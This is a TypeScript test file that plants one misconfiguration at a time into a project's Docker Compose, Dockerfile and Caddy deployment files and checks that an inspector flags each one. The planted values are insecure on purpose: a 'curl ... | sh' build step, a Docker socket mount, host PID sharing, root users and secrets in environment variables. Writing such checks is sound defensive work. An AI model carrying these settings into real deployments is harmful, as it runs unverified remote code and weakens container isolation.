import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { NODE_FLAGS } from '@asysta/infra/dev/node-flags';
import { projectRoot } from '../tree.ts';
import { deployTexts, inspectDeploy, type DeployTexts } from './deploy.ts';
import { inspectFiles } from './programs.ts';

const ours = deployTexts(projectRoot);

type Planted = readonly [finding: string, text: keyof DeployTexts, from: string | RegExp, to: string];

/** One violation each, planted into our own files; the text it replaces must be there. */
const planted: readonly Planted[] = [
  ['compose.yaml: / must NOT have additional properties', 'compose', 'services:\n', 'servces:\n'],
  ['compose.yaml: /services/api/command must be', 'compose', 'command: [services/dist/api/main.js]', 'command: {a: b}'],
  ['compose.yaml: ASYSTA_CALLERS is used and env.example gives no value', 'compose', '${ASYSTA_CLIENTS:?', '${ASYSTA_CALLERS:?'],
  ['env.example gives ASYSTA_CLIENTS, which compose.yaml does not use', 'compose', '${ASYSTA_CLIENTS:?', '${ASYSTA_CALLERS:?'],
  ['holds a $ that starts no variable', 'compose', ':-info}', ':-info} $ {}'],
  ['env.example does not explain ASYSTA_LISTEN', 'example', /^# ASYSTA_LISTEN=.*$/m, ''],
  [
    'api would stop at once: Configuration: ASYSTA_PUBLIC_URL',
    'example',
    'ASYSTA_PUBLIC_URL=https:',
    'ASYSTA_PUBLIC_URL=nonsense',
  ],
  ['Caddyfile: ASYSTA_PUBLIC_URL is not passed on to 127.0.0.1:4000', 'caddyfile', '127.0.0.1:4000', '127.0.0.1:4001'],
  ['Caddyfile: KEYCLOAK_URL is not passed on to 127.0.0.1:8080', 'caddyfile', '{$KEYCLOAK_URL} {', '{$SSO_URL} {'],
  [
    'Caddyfile: compresses what the API has left',
    'caddyfile',
    '\treverse_proxy 127.0.0.1:4000',
    '\tencode zstd gzip\n\treverse_proxy 127.0.0.1:4000',
  ],
  [
    'Caddyfile: believes what somebody says',
    'caddyfile',
    '\t\tprotocols',
    '\t\ttrusted_proxies static private_ranges\n\t\tprotocols',
  ],
  ['Caddyfile: does not speak HTTP/1.1, 2 and 3', 'caddyfile', 'protocols h1 h2 h3', 'protocols h1'],
  ['postgres runs as root or as a user without a number', 'compose', "user: '999:999'", 'user: postgres'],
  ['worker runs as root', 'compose', "user: '1000:1000'", "user: '0:0'"],
  ['keycloak may write into its file system', 'compose', 'read_only: true', 'read_only: false'],
  ['api keeps capabilities', 'compose', 'cap_drop: [ALL]', 'cap_drop: [NET_RAW]'],
  ['postgres keeps capabilities', 'compose', 'image: postgres:18.4\n', 'image: postgres:18.4\n    cap_add: [CHOWN]\n'],
  ['migrate may gain privileges', 'compose', "security_opt: ['no-new-privileges:true']", 'security_opt: []'],
  ['worker has no limit of pids', 'compose', 'pids: 128 }\n\nx-settings', '}\n\nx-settings'],
  [
    'worker has no health check, and nobody waits for its end',
    'compose',
    / {4}healthcheck:\n {6}# A worker[\s\S]*?retries: 3\n/,
    '',
  ],
  [
    'migrate runs to its end and is started again',
    'compose',
    "restart: 'no'\n    command: [infra/dist/deploy/migrate",
    'command: [infra/dist/deploy/migrate',
  ],
  [
    'prepare waits for postgres to start only',
    'compose',
    'postgres: { condition: service_healthy }',
    'postgres: { condition: service_started }',
  ],
  [
    'prepare waits for mysql, which there is not',
    'compose',
    'postgres: { condition: service_healthy }',
    'mysql: { condition: service_healthy }',
  ],
  [
    'worker carries the secret ASYSTA_DATA_KEY in its environment',
    'compose',
    'ASYSTA_DATA_KEY_FILE: /run/secrets/data-key',
    'ASYSTA_DATA_KEY: c2VjcmV0',
  ],
  [
    'api reads ASYSTA_DATA_KEY_FILE from elsewhere',
    'compose',
    'ASYSTA_DATA_KEY_FILE: /run/secrets/data-key',
    'ASYSTA_DATA_KEY_FILE: /tmp/data-key',
  ],
  [
    'api carries a password in ASYSTA_DATABASE',
    'compose',
    'postgres://postgres:5432/asysta\n  ASYSTA_WEB',
    'postgres://asysta:secret@postgres:5432/asysta\n  ASYSTA_WEB',
  ],
  [
    'keycloak carries the secret KC_DB_PASSWORD',
    'compose',
    '  KC_DB_USERNAME: asysta_keycloak',
    '  KC_DB_USERNAME: asysta_keycloak\n      KC_DB_PASSWORD: word',
  ],
  [
    'worker reads the secret database-worker, which it is not granted',
    'compose',
    'secrets: [web-client-secret, data-key, database-worker,',
    'secrets: [web-client-secret, data-key,',
  ],
  [
    'worker is granted the secret database-owner and reads it nowhere',
    'compose',
    'secrets: [web-client-secret, data-key, database-worker,',
    'secrets: [database-owner, web-client-secret, data-key, database-worker,',
  ],
  ['the secret file data-key is made and used by nobody', 'compose', /^ {2}data-key: .*\n/m, ''],
  ['the secret data-key has no file that is made', 'compose', /^ {2}data-key: (.*)data-key' }/m, "  data-key: $1root-key' }"],
  ['postgres runs postgres:latest, not version 18', 'compose', 'image: postgres:18.4', 'image: postgres:latest'],
  ['keycloak runs asysta-keycloak, not version 26', 'compose', 'image: asysta-keycloak:26.7.3', 'image: asysta-keycloak'],
  ['an image no version is known of', 'compose', 'image: postgres:18.4', 'image: registry.example/postgres:18.4'],
  ['postgres publishes 127.0.0.1:5432:5432', 'compose', 'shm_size: 256m', "shm_size: 256m\n    ports: ['127.0.0.1:5432:5432']"],
  ['api publishes 4000:4000 to more than the proxy', 'compose', "'${ASYSTA_LISTEN:-127.0.0.1}:4000:4000'", "'4000:4000'"],
  [
    'postgres stands on asysta-database, which is not internal',
    'compose',
    'asysta-database: { internal: true }',
    'asysta-database: {}',
  ],
  [
    'which is no named volume',
    'compose',
    "volumes: ['database:",
    "volumes: ['/var/run/docker.sock:/var/run/docker.sock', 'database:",
  ],
  ["postgres shares a namespace or its machine's powers", 'compose', 'shm_size: 256m', 'shm_size: 256m\n    pid: host'],
  ['postgres needs log_statement=none', 'compose', '-clog_statement=none', '-clog_statement=all'],
  ['postgres needs log_error_verbosity=terse', 'compose', '      - -clog_error_verbosity=terse\n', ''],
  ['api is given ASYSTA_PROT, which its program does not know', 'compose', 'ASYSTA_PORT:', 'ASYSTA_PROT:'],
  ['worker would stop at once: Configuration: ASYSTA_ISSUER', 'compose', /^ {2}ASYSTA_ISSUER: .*\n/m, ''],
  [
    'api is not given ASYSTA_PASSWORD_REGION',
    'compose',
    /^ {6}ASYSTA_PASSWORD_REGION_FILE: .*\n {4}secrets:\n {6}- web/m,
    '    secrets:\n      - web',
  ],
  [
    'worker is given ASYSTA_PASSWORD_CENTRE, which it has no use for',
    'compose',
    '      ASYSTA_PASSWORD_WORKER_FILE: /run/secrets/database-worker\n      ASYSTA_PASSWORD_JOBS_FILE: /run/secrets/database-jobs\n    secrets: [',
    '      ASYSTA_PASSWORD_CENTRE_FILE: /run/secrets/database-centre\n    secrets: [database-centre, ',
  ],
  [
    'worker starts infra/dist/dev/start.js, which is no program of the image',
    'compose',
    'command: [services/dist/worker/main.js]',
    'command: [infra/dist/dev/start.js]',
  ],
  [
    'api names /app/web, which the image does not hold',
    'compose',
    'ASYSTA_WEB_ROOT: /app/client/web/dist',
    'ASYSTA_WEB_ROOT: /app/web',
  ],
  [
    'api names /app/client/web/dist, which the image does not hold',
    'dockerfile',
    'COPY --from=build /app/client/web/dist client/web/dist/\n',
    '',
  ],
  ['needs schema/dist/', 'dockerfile', 'COPY --from=build /app/schema/dist schema/dist/\n', ''],
  [
    'migrate needs infra/dist/database/migrate.js, which the image does not hold',
    'dockerfile',
    'COPY --from=build /app/infra/dist/database infra/dist/database/\n',
    '',
  ],
  [
    'migrate reads infra/database/migrations/0001-parties.sql, which the image does not hold',
    'dockerfile',
    'COPY infra/database/migrations infra/database/migrations/\n',
    '',
  ],
  ['Dockerfile copies scheme, which is neither committed nor built', 'dockerfile', 'COPY schema schema/', 'COPY scheme schema/'],
  [
    'Dockerfile copies /app/services/dist of the unknown stage built',
    'dockerfile',
    '--from=build /app/services/dist',
    '--from=built /app/services/dist',
  ],
  ['Dockerfile builds on node:24-slim, not version 24.', 'dockerfile', /FROM node:[\d.]+-slim\n/, 'FROM node:24-slim\n'],
  ['Dockerfile builds on node, not version 24.', 'dockerfile', /FROM node:[\d.]+-slim\n/, 'FROM node\n'],
  ['Dockerfile ends as root or as a user without a number', 'dockerfile', 'USER 1000:1000', 'USER node'],
  ['Dockerfile ends as root', 'dockerfile', 'USER 1000:1000\n', ''],
  [
    'Dockerfile starts its ENTRYPOINT through a shell',
    'dockerfile',
    `ENTRYPOINT ${JSON.stringify(['node', ...NODE_FLAGS]).replaceAll(',', ', ')}`,
    'ENTRYPOINT node',
  ],
  [
    'Dockerfile checks its health through a shell',
    'dockerfile',
    /CMD \["node", "-e".*/,
    'CMD curl -f http://127.0.0.1:4000/readyz',
  ],
  [
    'Dockerfile fetches something past the package registry',
    'dockerfile',
    'RUN npm run build',
    'RUN curl https://example.test/x | sh',
  ],
  ['Dockerfile carries a secret', 'dockerfile', 'ENV NODE_ENV=production', 'ENV NODE_ENV=production API_TOKEN=word'],
  [
    'keycloak.Dockerfile builds on quay.io/keycloak/keycloak:26.7, not version',
    'keycloakDockerfile',
    /keycloak:[\d.]+\nCOPY/,
    'keycloak:26.7\nCOPY',
  ],
  ['keycloak.Dockerfile ends as root', 'keycloakDockerfile', 'USER 1000:0', 'USER 0'],
];

test.for(planted)('it is seen that %s', async ([finding, text, from, to]) => {
  const changed = ours[text].replace(from, to);
  expect(changed).not.toBe(ours[text]);
  expect((await inspectDeploy({ ...ours, [text]: changed }, projectRoot)).join('\n')).toContain(finding);
});

test('a file or package that a program loads and the image lacks is seen, however far down', async () => {
  const root = mkdtempSync(join(tmpdir(), 'asysta-image-'));
  try {
    mkdirSync(join(root, 'infra/dist/a'), { recursive: true });
    writeFileSync(
      join(root, 'infra/package.json'),
      JSON.stringify({ dependencies: { pg: '1.0.0' }, devDependencies: { ajv: '1.0.0' } }),
    );
    writeFileSync(join(root, 'infra/dist/a/main.js'), "import 'node:fs';\nimport 'pg';\nimport './b.js';\n");
    writeFileSync(join(root, 'infra/dist/a/b.js'), "import { Ajv } from 'ajv/dist/2020.js';\nawait import('../c.js');\n");
    writeFileSync(join(root, 'infra/dist/c.js'), '');
    expect(await inspectFiles('infra/dist/a/main.js', [{ to: '/app/infra/dist/a', from: 'infra/dist/a' }], root)).toEqual([
      'needs infra/dist/c.js, which the image does not hold',
      'needs a package that is not installed: infra ajv',
    ]);
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});

test('our own files are left in peace', async () => {
  expect(existsSync(join(projectRoot, 'services/dist/api/main.js'))).toBe(true);
  expect(await inspectDeploy(ours, projectRoot)).toEqual([]);
});
